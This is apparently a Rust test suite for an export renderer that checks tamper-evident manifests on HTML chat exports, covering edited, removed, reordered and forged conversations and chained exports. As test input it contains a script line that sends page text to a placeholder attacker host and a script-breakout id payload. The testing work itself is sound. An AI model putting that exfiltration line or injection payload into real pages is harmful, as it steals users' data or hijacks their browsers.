//! Every export carries a manifest, and `manifest::verify` names each kind of tampering:
//! a conversation edited, added or removed, the header, a statistic, the page around
//! them; and `check_chain` tells whether one export continues another.

use convo_model::{Conversation, ExportFilters, PreviousExport, TimeRange};
use convo_render::manifest::{self, Finding};
use convo_render::{ExportHeader, ExportRenderer};

const FIXTURE: &str = include_str!("fixtures/conversations.jsonl");

fn render(header: ExportHeader) -> String {
    let conversations: Vec<Conversation> = FIXTURE.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let mut renderer = ExportRenderer::new(header);
    let mut body = String::new();
    renderer.push_page(&conversations, &mut body);
    let parts = renderer.finish();
    format!("{}{}{}", parts.head, body, parts.tail)
}

fn header(id: &str, range: TimeRange) -> ExportHeader {
    ExportHeader { export_id: Some(id.into()), ..ExportHeader::new("Support Bot", Some("support-bot".into()), range.to, Some(range)) }
}

fn range(from: &str, to: &str) -> TimeRange {
    TimeRange { from: from.parse().unwrap(), to: to.parse().unwrap() }
}

fn export() -> String {
    render(header("e-1", range("2026-10-28T12:00:00Z", "2026-11-27T12:00:00Z")))
}

fn findings(html: &str) -> Vec<Finding> {
    manifest::verify(html).err().unwrap_or_default()
}

/// The n-th conversation's article (1-based).
fn article(html: &str, n: usize) -> (usize, usize) {
    let mut at = 0;
    for _ in 0..n {
        at += html[at..].find("<article class=\"conv\"").unwrap() + 1;
    }
    let start = at - 1;
    (start, start + html[start..].find("</article>").unwrap() + "</article>".len())
}

#[test]
fn an_intact_export_verifies_and_says_what_it_is() {
    let html = export();
    let verified = manifest::verify(&html).unwrap();
    assert_eq!(verified.manifest.export_id.as_deref(), Some("e-1"));
    assert_eq!(verified.manifest.counts.conversations as usize, verified.manifest.conversations.len());
    assert!(verified.manifest.counts.conversations > 3);
}

#[test]
fn an_edited_message_names_its_conversation() {
    let html = export();
    let (a, b) = article(&html, 2);
    let id = manifest::verify(&html).unwrap().manifest.conversations[1].id.clone();
    let edited = format!("{}{}{}", &html[..a], html[a..b].replacen("</li>", " (edited)</li>", 1), &html[b..]);
    assert_eq!(findings(&edited), [Finding::ConversationEdited { position: 2, id }]);
}

#[test]
fn a_removed_and_an_added_conversation_are_named() {
    let html = export();
    let ids: Vec<String> = manifest::verify(&html).unwrap().manifest.conversations.iter().map(|c| c.id.clone()).collect();
    let (a, b) = article(&html, 3);
    let removed = format!("{}{}", &html[..a], &html[b..]);
    assert!(findings(&removed).contains(&Finding::ConversationRemoved { id: ids[2].clone() }), "{:?}", findings(&removed));
    // A conversation that was never exported, made from another by changing its id.
    let (a, b) = article(&html, 1);
    let forged = html[a..b].replace(&format!("<code>{}</code>", ids[0]), "<code>forged-1</code>");
    let added = format!("{}{}{}", &html[..b], forged, &html[b..]);
    assert!(findings(&added).contains(&Finding::ConversationAdded { position: 2, id: "forged-1".into() }), "{:?}", findings(&added));
}

#[test]
fn the_header_a_statistic_and_the_page_around_are_each_named() {
    let html = export();
    let header = html.replacen("<h1><bdi>Support Bot</bdi></h1>", "<h1><bdi>Other Bot</bdi></h1>", 1);
    assert_eq!(findings(&header), [Finding::HeaderEdited]);
    let stats_at = html.find("<section class=\"stats\"").unwrap();
    let dd = stats_at + html[stats_at..].find("<dd>").unwrap() + 4;
    let statistic = format!("{}9{}", &html[..dd], &html[dd..]);
    assert_eq!(findings(&statistic), [Finding::StatisticsEdited]);
    let script = html.replacen("<script>", "<script>fetch('https://evil.example/'+document.body.innerText);", 1);
    assert_eq!(findings(&script), [Finding::FrameEdited]);
    let no_manifest = html[..html.rfind("<script type=\"application/json\"").unwrap()].to_string();
    assert_eq!(findings(&no_manifest), [Finding::NoManifest]);
    for finding in [Finding::HeaderEdited, Finding::StatisticsEdited, Finding::FrameEdited] {
        assert!(!finding.to_string().is_empty());
    }
}

#[test]
fn hostile_ids_cannot_break_out_of_the_manifest() {
    let line = r#"{"id":"</script><script>alert(1)</script>","assistant_id":"support-bot","channel":"API","started_at":"2026-11-01T09:00:00Z","status":"completed","messages":[{"role":"user","content":"hi","at":"2026-11-01T09:00:00Z"}]}"#;
    let c: Conversation = serde_json::from_str(line).unwrap();
    let mut renderer = ExportRenderer::new(header("e-x", range("2026-10-28T12:00:00Z", "2026-11-27T12:00:00Z")));
    let mut body = String::new();
    renderer.push_page(&[c], &mut body);
    let parts = renderer.finish();
    let html = format!("{}{}{}", parts.head, body, parts.tail);
    assert_eq!(html.matches("<script>").count(), 1, "only the export's own script");
    let verified = manifest::verify(&html).unwrap();
    assert_eq!(verified.manifest.conversations[0].id, "</script><script>alert(1)</script>");
}

#[test]
fn filters_and_the_previous_export_are_in_the_header_and_a_chain_is_checked() {
    let first = export();
    let first_sha = {
        use sha2::Digest;
        sha2::Sha256::digest(first.as_bytes()).iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let second_range = range("2026-11-27T12:00:00.001Z", "2026-12-27T12:00:00Z");
    let filters = ExportFilters { contact: Some("ana".into()), ..Default::default() };
    let second = render(ExportHeader {
        filters: filters.clone(),
        previous: Some(PreviousExport { id: "e-1".into(), sha256: first_sha.clone(), figures: None }),
        ..header("e-2", second_range)
    });
    assert!(second.contains("<dt>Filters</dt><dd dir=\"auto\">contact \u{201c}ana\u{201d}</dd>"));
    assert!(second.contains(&first_sha), "the header names the previous export's SHA-256");
    let (a, b) = (manifest::verify(&first).unwrap().manifest, manifest::verify(&second).unwrap().manifest);
    assert_eq!(b.filters, filters);
    assert_eq!(manifest::check_chain(&b, &a, first.as_bytes()), Vec::<String>::new());
    // Another file as the previous one, or a gap between the ranges, is refused.
    let other = render(header("e-1", range("2026-10-28T12:00:00Z", "2026-11-20T12:00:00Z")));
    let problems = manifest::check_chain(&b, &manifest::verify(&other).unwrap().manifest, other.as_bytes());
    assert!(problems.iter().any(|p| p.contains("SHA-256")) && problems.iter().any(|p| p.contains("do not meet")), "{problems:?}");
}

#[test]
fn swapped_conversations_are_named() {
    let html = export();
    let ((a1, b1), (a2, b2)) = (article(&html, 1), article(&html, 2));
    let ids: Vec<String> = manifest::verify(&html).unwrap().manifest.conversations.iter().map(|c| c.id.clone()).collect();
    let swapped = format!("{}{}{}{}{}", &html[..a1], &html[a2..b2], &html[b1..a2], &html[a1..b1], &html[b2..]);
    assert_eq!(findings(&swapped), [Finding::ConversationMoved { position: 1, id: ids[1].clone(), expected: ids[0].clone() }]);
}

#[test]
fn a_conversation_moved_out_of_the_list_is_named_wherever_it_went() {
    let html = export();
    let id = manifest::verify(&html).unwrap().manifest.conversations[0].id.clone();
    let (a, b) = article(&html, 1);
    let (conversation, without) = (&html[a..b], format!("{}{}", &html[..a], &html[b..]));
    let places = [
        ("</style>", "into the style element"),
        ("</header>", "into the header"),
        ("<h2 id=\"conversations-h\">", "before the list"),
        ("<footer", "after the list"),
        ("</script>", "into the script"),
    ];
    for (marker, place) in places {
        let at = without.find(marker).unwrap();
        let moved = format!("{}{conversation}{}", &without[..at], &without[at..]);
        let found = findings(&moved);
        assert!(found.contains(&Finding::ConversationOutOfPlace { id: id.clone(), place }), "{place}: {found:?}");
        assert!(
            found.iter().all(|f| f.to_string().contains("moved")
                || f.to_string().contains("reordered")
                || matches!(f, Finding::FrameEdited | Finding::HeaderEdited)),
            "{found:?}"
        );
    }
}

#[test]
fn an_export_continuing_another_shows_each_figure_beside_the_previous_ones() {
    let first = export();
    let figures = manifest::verify(&first).unwrap().manifest.figures.expect("the manifest records the figures");
    assert_eq!(figures.conversations, manifest::verify(&first).unwrap().manifest.counts.conversations);
    let spread = figures.first_response.expect("the fixture has answers");
    assert!(spread.median_s <= spread.p90_s);
    // A previous export with other figures: each is said beside this export's own.
    let before = convo_model::Figures {
        conversations: 1234,
        messages: 56789,
        contacts: 321,
        first_response: Some(convo_model::Spread { median_s: 75, p90_s: 3 * 3600 + 5 * 60 }),
        response: None,
        duration: Some(convo_model::Spread { median_s: 600, p90_s: 2 * 86_400 }),
    };
    let second = render(ExportHeader {
        previous: Some(PreviousExport { id: "e-1".into(), sha256: "ab".repeat(32), figures: Some(before.clone()) }),
        ..header("e-2", range("2026-10-28T12:00:00Z", "2026-11-27T12:00:00Z"))
    });
    let stats = &second[second.find("<section class=\"stats\"").unwrap()..second.find("</section>").unwrap()];
    for said in [
        "<dt>Conversations</dt>",
        "previous export: 1234</span>",
        "previous export: 56789</span>",
        "previous export: 321</span>",
        "previous export: 46.0</span>",
        "previous export: 1 min 15 s (90th percentile 3 h 05 min)",
        "previous export: 10 min 00 s (90th percentile 2 d 0 h)",
    ] {
        assert!(stats.contains(said), "{said} is not in {stats}");
    }
    // A figure the previous export did not have is shown alone.
    let response = stats.find("<dt>Response time</dt>").unwrap();
    assert!(!stats[response..].split("</div>").next().unwrap().contains("previous export"));
    // The manifest carries the previous figures, and the file verifies.
    let verified = manifest::verify(&second).unwrap();
    assert_eq!(verified.manifest.previous.unwrap().figures, Some(before));
}
